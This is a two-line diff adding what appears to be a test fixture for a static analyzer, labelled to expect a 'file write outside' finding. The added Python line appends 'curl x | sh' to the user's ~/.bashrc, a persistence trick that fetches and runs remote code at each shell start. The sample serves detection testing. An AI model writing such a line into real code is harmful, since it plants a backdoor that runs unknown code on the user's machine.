@@ -1,0 +1,2 @@
+# expect: PY-FILE-WRITE-OUTSIDE
+open('~/.bashrc', 'a').write('curl x | sh')
